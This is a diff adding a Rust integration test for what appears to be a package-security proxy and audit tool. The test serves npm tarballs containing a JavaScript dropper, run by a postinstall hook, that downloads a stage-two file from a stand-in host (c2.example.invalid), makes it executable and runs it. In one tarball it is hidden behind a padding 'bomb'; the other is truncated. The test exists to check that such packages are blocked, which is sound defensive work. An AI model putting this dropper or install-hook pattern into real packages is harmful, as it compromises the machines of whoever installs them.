@@ -3050,3 +3050,100 @@ fn proxy_pins_build_identities() {
     assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
     assert!(String::from_utf8_lossy(&body).contains("not by the pinned octo/strict"));
 }
+
+/// Serves `tgz` as the only release of an npm package.
+fn npm_tarball(server: &Loopback, name: &str, version: &str, tgz: &[u8]) -> String {
+    let path = format!("/npm/{name}/-/{name}-{version}.tgz");
+    server.route(&path, "application/octet-stream", tgz.to_vec());
+    let doc = json!({
+        "name": name, "dist-tags": {"latest": version},
+        "versions": {version: {"name": name, "version": version, "dist": {"tarball": format!("{}{path}", server.url), "integrity": sri(tgz)}}},
+        "time": {"created": iso(T0), version: iso(T0)}
+    });
+    server.route(
+        &format!("/npm/{name}"),
+        "application/json",
+        serde_json::to_vec(&doc).unwrap(),
+    );
+    sri(tgz)
+}
+
+/// Issue 28 item 11 in the surfaces that decide: a dropper behind a compression bomb is
+/// refused as malicious, and an artifact that could not be read in full is refused as
+/// unreadable, by the proxy and by `audit`, under the default policy.
+#[test]
+fn what_could_not_be_read_in_full_is_blocked_and_a_bomb_hides_nothing() {
+    let server = Loopback::start();
+    // Inert: it would fetch a payload, write it and run it.
+    let dropper: &[u8] = b"const http = require('http');
+const fs = require('fs');
+const { execFileSync } = require('child_process');
+const dest = require('path').join(require('os').tmpdir(), 'helper');
+http.get('http://c2.example.invalid/stage2', (res) => {
+  const file = fs.createWriteStream(dest);
+  res.pipe(file);
+  file.on('finish', () => { fs.chmodSync(dest, 0o755); execFileSync(dest); });
+});
+";
+    let zeros = vec![0u8; 12 << 20];
+    let padded = tar_gz_of(
+        &[
+            (
+                "package.json",
+                br#"{"name":"padded","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
+            ),
+            ("padding.bin", &zeros),
+            ("setup.js", dropper),
+        ],
+        "package/",
+    );
+    let noise: Vec<u8> = (0..400_000u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
+        .collect();
+    let whole = tar_gz_of(
+        &[
+            ("package.json", br#"{"name":"cut","version":"1.0.0"}"#),
+            ("index.js", b"module.exports = 1;\n"),
+            ("data.bin", &noise),
+            ("setup.js", dropper),
+        ],
+        "package/",
+    );
+    npm_tarball(&server, "padded", "1.0.0", &padded);
+    let cut_integrity = npm_tarball(&server, "cut", "1.0.0", &whole[..whole.len() / 2]);
+
+    let dir = tempfile::tempdir().unwrap();
+    let env = store_and_cache(dir.path());
+    let upstream = format!("{}/npm/", server.url);
+    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    let (status, body) = fetch_url(&proxy.url, "/npm/padded/-/padded-1.0.0.tgz");
+    let body = String::from_utf8_lossy(&body);
+    assert_eq!(status, 403, "{body}");
+    assert!(body.contains("malicious"), "{body}");
+    let (status, body) = fetch_url(&proxy.url, "/npm/cut/-/cut-1.0.0.tgz");
+    let body = String::from_utf8_lossy(&body);
+    assert_eq!(status, 403, "{body}");
+    assert!(body.contains("not read in full"), "{body}");
+    drop(proxy);
+
+    let mut env = npm_env(&server, &dir.path().join("cache"));
+    env.push((
+        "CUSTOMS_STORE",
+        dir.path().join("store.sqlite3").display().to_string(),
+    ));
+    npm_project(
+        &dir.path().join("app"),
+        &[("cut", "1.0.0", cut_integrity, true, &[])],
+    );
+    let out = run(dir.path(), &["audit", "app", "--format", "json"], &env);
+    let r = json_of(&out);
+    let cut = by_name(&r, "cut");
+    assert_eq!(cut["policy"]["decision"], "block", "{cut}");
+    assert!(
+        cut["policy"]["reasons"]
+            .to_string()
+            .contains("not read in full"),
+        "{cut}"
+    );
+    assert_eq!(out.status.code(), Some(1), "{r}");
+}
